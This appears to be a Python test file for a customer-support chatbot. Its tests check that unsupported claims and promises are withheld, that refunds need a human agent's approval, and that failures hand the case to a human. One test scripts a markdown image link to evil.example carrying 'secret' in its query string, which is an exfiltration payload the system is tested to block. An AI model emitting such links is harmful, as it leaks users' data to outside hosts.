"""What a turn comes to, by the rules around the model: what is said, who gets it, and why."""

from dataclasses import dataclass

from tests.journeys.remembering import ScriptedResponder
from tests.journeys.world import WEB, World, read_phrases
from warmline.application.ports import Answer, ToolOffer, TurnRequest
from warmline.application.tools_consent import HeedsConsent
from warmline.domain.articles import ArticleVersion
from warmline.domain.entries import Kind, LogEntry, Role
from warmline.domain.errors import ResponderUnavailable
from warmline.domain.handoff import Reason
from warmline.domain.states import State
from warmline.domain.tools import Risk, ToolStatus, ToolUse

NOTHING = Answer("I don't have that in our articles.", unsupported=True, offers_human=True)


def last(world: World, conversation: str, kind: Kind, role: Role) -> LogEntry:
    found = [e for e in world.log(conversation) if e.kind is kind and e.role is role]
    return found[-1]


def asked(world: World, *texts: str) -> str:
    conversation = ""
    for text in texts:
        conversation = world.customer(text, WEB).conversation
        world.settle()
    return conversation


def test_an_answer_keeps_what_it_stands_on() -> None:
    world = World()
    use = ToolUse(name="order_status", key="k1", status=ToolStatus.DONE, output='{"is": "sent"}')
    world.script.append(
        Answer(
            "It was sent.",
            articles=(ArticleVersion("orders/track", "v7"),),
            model="m-1",
            prompt="p-2",
            tools=(use,),
        )
    )

    conversation = asked(world, "where is order 1001?")

    said = last(world, conversation, Kind.MESSAGE, Role.BOT)
    assert said.articles == (ArticleVersion("orders/track", "v7"),)
    assert (said.model, said.prompt, said.tools) == ("m-1", "p-2", (use,))


def test_one_question_without_an_article_is_offered_a_human_and_the_next_is_given_one() -> None:
    world = World()
    world.script += [NOTHING, NOTHING]

    conversation = asked(world, "can you paint my boat?")
    assert world.head(conversation).state is State.BOT
    asked(world, "what colour is a lighthouse keeper's hat?")

    head = world.head(conversation)
    assert (head.state, head.reason) == (State.WAITING, Reason.NO_ANSWER_FOUND)
    assert head.signals[0].evidence


def test_a_model_that_wants_a_human_says_its_words_and_hands_over_with_its_reason() -> None:
    world = World()
    brief = "Wants: a refund for a chair that broke"
    world.script.append(
        Answer("I'm sorry to hear that.", handoff=Reason.STRONG_EMOTION, brief=brief)
    )

    conversation = asked(world, "it broke")

    head = world.head(conversation)
    assert (head.state, head.reason) == (State.WAITING, Reason.STRONG_EMOTION)
    assert "refund for a chair" in head.brief
    assert "I'm sorry to hear that." in last(world, conversation, Kind.MESSAGE, Role.BOT).text


def test_a_promise_becomes_a_humans_task_and_is_not_said() -> None:
    world = World()
    world.script.append(
        Answer("Your chair is oak. I'll check with the warehouse and get back to you tomorrow.")
    )

    conversation = asked(world, "is my chair oak?")

    head = world.head(conversation)
    said = last(world, conversation, Kind.MESSAGE, Role.BOT).text
    assert "oak" in said
    assert "get back to you" not in said
    assert (head.state, head.reason) == (State.WAITING, Reason.POLICY)
    assert "warehouse" in head.brief


def test_a_claim_that_no_tool_bears_out_is_not_said() -> None:
    world = World()
    world.script.append(Answer("I have refunded your order."))

    conversation = asked(world, "give me my money back for order 1001")

    assert all("refunded" not in text for text in world.channels[WEB.channel].texts)
    assert world.head(conversation).reason is Reason.POLICY


def test_a_tool_that_fails_twice_brings_a_human_who_reads_what_failed() -> None:
    world = World()
    failed = ToolUse(
        name="order_status", key="k", status=ToolStatus.FAILED, arguments='{"order": "1001"}'
    )
    world.script += [Answer("I could not see it.", tools=(failed,))] * 2

    conversation = asked(world, "where is order 1001?")
    assert world.head(conversation).state is State.BOT
    asked(world, "and now, any news of the parcel?")

    head = world.head(conversation)
    assert (head.state, head.reason) == (State.WAITING, Reason.TOOL_FAILED)
    assert "order status 1001" in head.signals[0].evidence


def test_an_action_that_an_agent_must_approve_goes_to_the_desk_with_the_case() -> None:
    world = World()
    use = ToolUse(
        name="refund",
        key="k",
        status=ToolStatus.ASKED_AGENT,
        risk=Risk.APPROVE,
        summary="refund order 1001",
    )
    world.script.append(Answer("A colleague has to agree to that.", tools=(use,)))

    conversation = asked(world, "please refund order 1001")

    head = world.head(conversation)
    assert head.state is State.WAITING
    assert "refund order 1001" in head.brief


def test_words_that_are_all_held_back_bring_a_human_and_no_empty_message() -> None:
    world = World()
    world.script.append(Answer("![x](https://evil.example/?q=secret)"))

    conversation = asked(world, "show me a picture")

    assert world.head(conversation).reason is Reason.POLICY
    assert all("evil.example" not in text for text in world.channels[WEB.channel].texts)
    assert all(text.strip() for text in world.channels[WEB.channel].texts)


def test_a_bot_that_gets_its_case_back_starts_counting_anew() -> None:
    world = World()
    world.hire()
    world.script += [NOTHING, NOTHING]
    conversation = asked(world, "can you paint my boat?", "human please")
    world.actions.claim("U0ANA", conversation)
    world.actions.hand_back("U0ANA", conversation)
    world.settle()

    asked(world, "do you have a lighthouse?")

    assert world.head(conversation).state is State.BOT


def test_what_an_agent_must_approve_is_asked_even_if_the_model_then_said_nothing() -> None:
    world = World()
    use = ToolUse(
        name="refund",
        key="k",
        status=ToolStatus.ASKED_AGENT,
        risk=Risk.APPROVE,
        summary="refund order 1001",
    )
    world.script.append(Answer(" ", tools=(use,)))

    conversation = asked(world, "please refund order 1001")

    assert world.head(conversation).reason is Reason.MODEL_UNAVAILABLE
    assert any("refund order 1001" in line and "approves" in line for line in world.thread)


def test_an_answer_is_asked_for_in_the_language_that_the_notices_are_in() -> None:
    world = World()

    conversation = asked(
        world,
        "Where is my order and when will it be delivered?",
        "Quiero devolver una lámpara, ¿cómo lo hago?",
        "FO-20260098",
        "human please",
    )

    requests = world.responder.asked  # type: ignore[attr-defined]  # the scripted one
    assert [request.language for request in requests] == ["en", "es", "es"]
    notice = last(world, conversation, Kind.NOTICE, Role.SYSTEM).text
    assert notice.startswith(world.house.phrases.say("handoff_asked_for_human", "es", WEB.channel))


@dataclass
class Called:
    """A box of tools in which each call of this turn is known beforehand."""

    known: list[ToolUse]

    def offers(self) -> tuple[ToolOffer, ...]:
        return ()

    def call(self, name: str, arguments: str) -> ToolUse:
        raise AssertionError((name, arguments))

    def uses(self) -> tuple[ToolUse, ...]:
        return tuple(self.known)


def test_what_was_asked_of_the_desk_before_the_model_failed_is_not_lost() -> None:
    done = ToolUse(
        name="start_return", key="1", status=ToolStatus.DONE, summary="It is on its way."
    )
    refund = ToolUse(name="refund", key="2", status=ToolStatus.ASKED_AGENT, risk=Risk.APPROVE)
    box = Called([done])

    def fail(_: TurnRequest) -> Answer:
        box.known.append(refund)
        raise ResponderUnavailable("timeout")

    request = TurnRequest(
        WEB.channel, "en", (), ("yes", "and refund the other one, please"), 5, tools=box
    )
    answer = HeedsConsent(ScriptedResponder([fail]), read_phrases()).respond(request)

    assert answer.text == "It is on its way."
    assert answer.handoff is Reason.MODEL_UNAVAILABLE
    assert answer.tools == (done, refund)
